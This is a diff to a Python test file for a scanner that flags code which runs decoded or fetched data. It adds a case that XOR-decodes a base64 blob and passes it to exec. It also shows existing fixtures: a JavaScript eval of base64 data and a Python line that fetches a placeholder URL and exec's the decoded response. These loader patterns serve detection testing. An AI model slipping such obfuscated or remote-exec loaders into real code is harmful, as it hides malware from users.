@@ -23,11 +23,15 @@ JAVASCRIPT = f"eval(Buffer.from('{BLOB}', 'base64').toString())\n"
             Confidence.HIGH,
         ),
         (
+            f"from base64 import b64decode as d\nX = d('{BLOB}')\nKEY = input()\nexec(bytes(x ^ KEY for x in d('{SHUT}')))\n",
+            Confidence.HIGH,
+        ),
+        (
             "import base64, requests\nexec(base64.b64decode(requests.get('https://a.invalid').text))\n",
             Confidence.HIGH,
         ),
     ],
-    ids=["read here too", "not to be read", "fetched"],
+    ids=["read here too", "not to be read", "beside a constant that is read", "fetched"],
 )
 def test_python_that_runs_decoded_data_at_import(code: str, confidence: Confidence) -> None:
     """What could be decoded here too is held, and blocked by what is in it; what nobody has seen is blocked."""
